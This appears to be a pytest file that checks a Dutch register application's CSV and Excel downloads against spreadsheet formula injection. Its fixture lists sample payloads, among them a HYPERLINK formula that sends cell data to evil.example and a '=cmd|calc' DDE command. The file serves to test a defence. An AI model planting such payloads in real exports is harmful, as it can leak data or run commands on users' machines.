"""Issue 11: register text never becomes a live formula in a download (OWASP CSV injection)."""
import csv
import io

import duckdb
import openpyxl
import pandas as pd
import pytest

from vliegwiel import bronnen, exports

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "+31 30 123", "-2+3", "@SUM(A1:A9)",
           "\tTab", "\rCR", "=1+1"]


@pytest.fixture
def hostile_db(writable_db):
    con = duckdb.connect(str(writable_db))
    for i, naam in enumerate(HOSTILE):
        con.execute("INSERT INTO initiatieven (initiatief_id, naam, gemeente_code, beschrijving, website, bron) "
                    "VALUES (?, ?, 'GM0331', ?, ?, 'test')", [f"hostile-{i}", naam, naam, naam])
    con.execute("INSERT INTO verbindingen (verbinding_id, van_id, naar_id, soort, toelichting, bron) "
                "VALUES ('v-hostile', 'hostile-0', 'hostile-1', 'werkt samen met', '=cmd|calc', 'test')")
    con.close()
    return writable_db


def _sets(path):
    con = duckdb.connect(str(path), read_only=True)
    try:
        return bronnen.download_sets(con)
    finally:
        con.close()


def test_every_download_set_writes_hostile_text_as_text_in_xlsx(hostile_db):
    sets = _sets(hostile_db)
    assert set(HOSTILE) <= set(sets["Initiatieven"]["Naam"])
    wb = openpyxl.load_workbook(io.BytesIO(exports.excel_bytes(sets)))
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and exports.is_formula_like(cell.value):
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} lacks the quote prefix"
                    seen.add(cell.value)
    # the text itself is kept, unchanged (XML turns a bare CR into LF, which is harmless)
    assert set(HOSTILE) - {"\rCR"} | {"=cmd|calc"} <= seen


def test_every_download_set_neutralises_hostile_text_in_csv(hostile_db):
    for name, df in _sets(hostile_db).items():
        text = exports.csv_bytes(df).decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
            for field in row:
                assert not exports.is_formula_like(field), f"{name}: {field!r}"
    ini = exports.csv_bytes(_sets(hostile_db)["Initiatieven"]).decode("utf-8-sig")
    assert "'=HYPERLINK(" in ini and "'@SUM(A1:A9)" in ini and "'-2+3" in ini


def test_numbers_stay_numbers():
    df = pd.DataFrame({"Naam": ["-3", "=A1"], "Saldo": [-3, 2], "Aandeel": [-1.5, 0.25]})
    rows = exports.csv_bytes(df).decode("utf-8-sig").splitlines()
    assert rows[1:] == ["-3;-3;-1,5", "'=A1;2;0,25"]
    ws = openpyxl.load_workbook(io.BytesIO(exports.excel_bytes({"T": df}))).active
    assert ws["B2"].value == -3 and ws["B2"].data_type == "n"
    assert ws["C2"].value == -1.5
    assert ws["A3"].value == "=A1" and ws["A3"].data_type == "s"


def test_hostile_column_names_and_lists_are_neutralised():
    df = pd.DataFrame({"=kop": [["=a", "b"]], "Waarde": [1]})
    text = exports.csv_bytes(df).decode("utf-8-sig")
    assert text.splitlines()[0] == "'=kop;Waarde"
    assert text.splitlines()[1] == '"\'=a; b";1'
    ws = openpyxl.load_workbook(io.BytesIO(exports.excel_bytes({"T": df}))).active
    assert ws["A1"].data_type == "s" and ws["A2"].data_type == "s"
